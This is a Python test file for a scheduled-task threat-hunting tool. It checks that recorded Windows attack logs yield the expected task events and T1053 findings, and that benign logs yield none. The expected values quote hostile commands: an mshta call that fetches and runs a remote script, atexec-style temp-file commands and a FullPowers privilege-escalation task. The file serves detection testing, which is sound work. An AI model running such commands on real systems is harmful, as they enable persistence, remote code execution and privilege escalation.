"""EVTX ground truth from ../shared/corpus/MANIFEST.md §1 and §9.5: task names, commands, event
kinds and findings; the negative files give no T1053 finding."""

from __future__ import annotations

from pathlib import Path

import pytest

from schedwarden import engine
from schedwarden.logs.report import HuntReport
from schedwarden.model import ScheduledJob
from tests.conftest import corpus_path

TASK = ("windows", "evtx", "task")
EAS = (*TASK, "EVTX-ATTACK-SAMPLES")
HAYABUSA = (*TASK, "hayabusa-sample-evtx", "EVTX-to-MITRE-Attack")
T1053_RULES = {
    "TASK_SHORT_LIVED",
    "TASK_ATEXEC",
    "TASK_ACTION_CHANGED",
    "TASK_REMOTE_REGISTRATION",
    "TASK_CACHE_HIDING",
    "TASK_NOT_ON_DISK",
}


def _hunt(*parts: str) -> HuntReport:
    return engine.hunt([str(corpus_path(*parts))])


def _kinds(report: HuntReport) -> set[tuple[str, str, str | None]]:
    return {(e.action, e.job_name, e.command) for e in report.events}


def test_atexec_task_created_and_deleted() -> None:
    report = _hunt(*EAS, "Execution", "temp_scheduled_task_4698_4699.evtx")
    command = r"cmd.exe /C tasklist > %windir%\Temp\CYAlyNSS.tmp 2>&1"
    assert ("registered", "\\CYAlyNSS", command) in _kinds(report)
    assert ("deleted", "\\CYAlyNSS", command) in _kinds(report)
    rules = {f.rule_id for f in report.findings}
    assert {"TASK_ATEXEC", "TASK_SHORT_LIVED"} <= rules
    registered = next(e for e in report.events if e.action == "registered")
    assert registered.actor == "EXAMPLE\\Administrator"
    assert registered.extra["event_id"] == 4698 and registered.extra["record_id"] == 1
    definition = registered.extra["definition"]
    assert isinstance(definition, ScheduledJob)  # parsed by the collector's task-XML code
    assert definition.name == "\\CYAlyNSS" and definition.hidden
    assert definition.run_as is not None and "SYSTEM" in definition.run_as.upper()
    assert not report.issues


def test_full_powers_task() -> None:
    report = _hunt(
        *EAS,
        "Privilege Escalation",
        "PrivEsc_SeImpersonatePriv_enabled_back_for_upnp_localsvc_4698.evtx",
    )
    assert (
        "registered",
        "\\FullPowersTask",
        r"C:\Users\Public\Tools\TokenManip\FullPowers.exe -t 4932",
    ) in _kinds(report)
    assert any(e.action == "deleted" and e.job_name == "\\FullPowersTask" for e in report.events)
    assert "TASK_SHORT_LIVED" in {f.rule_id for f in report.findings}


def test_remote_update_same_logon_id() -> None:
    report = _hunt(*EAS, "Lateral Movement", "remote task update 4624 4702 same logonid.evtx")
    assert (
        "updated",
        "\\LMST",
        r"cmd.exe /c echo testing > c:\users\public\out.txt",
    ) in _kinds(report)
    remote = [f for f in report.findings if f.rule_id == "TASK_REMOTE_REGISTRATION"]
    assert len(remote) == 1
    assert "\\LMST" in remote[0].message and "172.16.66.142" in remote[0].message
    # the network logon that shares the session is kept as context, the others are not
    logons = [e for e in report.events if e.action == "logon"]
    assert [e.extra["logon_id"] for e in logons] == ["0x21a8c68"]


def test_atexec_over_atsvc_target_host() -> None:
    report = _hunt(*EAS, "Lateral Movement", "LM_ScheduledTask_ATSVC_target_host.evtx")
    actions = {e.action for e in report.events}
    assert {"atsvc_access", "registered", "deleted"} <= actions
    assert {"TASK_ATEXEC", "TASK_SHORT_LIVED", "TASK_REMOTE_REGISTRATION"} <= {
        f.rule_id for f in report.findings
    }


@pytest.mark.parametrize(
    ("parts", "name", "command"),
    [
        (
            (
                *HAYABUSA,
                "TA0002-Execution",
                "T1053.005-Scheduled Task",
                "ID4698-4699-Fast created and deleted task by ATexec (susp. arg.).evtx",
            ),
            "\\bouWFQYO",
            r"cmd.exe /C whoami > %windir%\Temp\bouWFQYO.tmp 2>&1",
        ),
        (
            (
                *HAYABUSA,
                "TA0002-Execution",
                "T1053.005-Scheduled Task",
                "ID4698-4699-Fast created and deleted task by SMBexec (sups. arg.).evtx",
            ),
            "\\smbservice",
            r"C:\WINDOWS\Temp\MpCmdRun.bat",
        ),
        (
            (
                *HAYABUSA,
                "EVTX_full_APT_attack_steps",
                "ID4720,4698-Fortinet APT group abuse on Windows.evtx",
            ),
            "\\Microsoft\\SynchronizeTimeZone",
            "adf",
        ),
    ],
)
def test_security_4698_task_and_command(parts: tuple[str, ...], name: str, command: str) -> None:
    report = _hunt(*parts)
    assert ("registered", name, command) in _kinds(report)


@pytest.mark.parametrize(
    ("parts", "action", "name", "command"),
    [
        (
            (*EAS, "Execution", "exec_persist_rundll32_mshta_scheduledtask_sysmon_1_3_11.evtx"),
            "cmd_create",
            "\\MSOFFICE_",
            "mshta.exe https://hotelesms.com/Injection.txt",
        ),
        (
            (*EAS, "AutomatedTestingTools", "panache_sysmon_vs_EDRTestingScript.evtx"),
            "cmd_create",
            "\\mysc",
            r"C:\windows\system32\calc.exe",
        ),
        (
            (
                *HAYABUSA,
                "TA0002-Execution",
                "T1053.005-Scheduled Task",
                "ID4688-4698 Persistent scheduled task with SYSTEM privileges creation.evtx",
            ),
            "cmd_create",
            "\\eviltask",
            r"C:\tools\shell.cmd",
        ),
        (
            (
                *HAYABUSA,
                "TA0002-Execution",
                "T1053.005-Scheduled Task",
                "ID4688-Scheduled task creation.evtx",
            ),
            "cmd_create",
            "\\tasks_test_hacker2",
            "myapp.exe",
        ),
        (
            (
                *TASK,
                "sigma-regression",
                "proc_creation_win_schtasks_delete",
                "dbc1f800-0fe0-4bc0-9c66-292c2abe3f78.evtx",
            ),
            "cmd_delete",
            "\\Microsoft\\Windows\\SystemRestore\\SR",
            None,
        ),
    ],
)
def test_command_lines_parsed_into_the_intended_task(
    parts: tuple[str, ...], action: str, name: str, command: str | None
) -> None:
    assert (action, name, command) in _kinds(_hunt(*parts))


def test_schtasks_options_kept() -> None:
    report = _hunt(
        *HAYABUSA,
        "TA0002-Execution",
        "T1053.005-Scheduled Task",
        "ID4688-Scheduled task creation.evtx",
    )
    event = next(e for e in report.events if e.action == "cmd_create")
    assert event.extra["remote_host"] == "fs02"
    assert event.extra["schedule"] == "daily" and event.extra["modifier"] == "10"


@pytest.mark.parametrize("value", ["SD", "Index"])
def test_task_cache_value_removal(value: str) -> None:
    folder = {
        "SD": (
            "registry_delete_schtasks_hide_task_via_sd_value_removal",
            "acd74772-5f88-45c7-956b-6a7b36c294d2.evtx",
        ),
        "Index": (
            "registry_delete_schtasks_hide_task_via_index_value_removal",
            "526cc8bc-1cdc-48ad-8b26-f19bff969cec.evtx",
        ),
    }[value]
    report = _hunt(*TASK, "sigma-regression", *folder)
    hiding = [f for f in report.findings if f.rule_id == "TASK_CACHE_HIDING"]
    assert len(hiding) == 1 and "\\MaliciousTask" in hiding[0].message


def test_velociraptor_lifecycle_and_action_change() -> None:
    report = _hunt(*TASK, "velociraptor")
    by_name = {(e.action, e.job_name) for e in report.events}
    for name in ("\\T1053_005_OnLogon", "\\T1053_005_OnStartup", "\\T1053_005_powershell"):
        assert ("registered", name) in by_name and ("deleted", name) in by_name
    assert ("disabled", "\\T1053_005_OnStartup") in by_name
    assert ("action_started", "\\T1053_005_OnLogon") in by_name
    changed = [f for f in report.findings if f.rule_id == "TASK_ACTION_CHANGED"]
    assert len(changed) == 1 and "ping -n 10" in changed[0].message


def test_benign_update_noise_is_not_a_t1053_finding() -> None:
    report = _hunt(*EAS, "Credential Access", "ACL_ForcePwd_SPNAdd_User_Computer_Accounts.evtx")
    assert any(e.action == "updated" for e in report.events)
    assert not {f.rule_id for f in report.findings} & T1053_RULES


def test_negative_evtx_give_no_t1053_finding() -> None:
    folder = corpus_path("windows", "evtx", "negative")
    files = sorted(Path(folder).rglob("*.evtx"))
    assert len(files) >= 17
    report = engine.hunt([str(folder)])
    assert not report.findings
    assert not [e for e in report.events if e.job_name]
    assert not report.issues
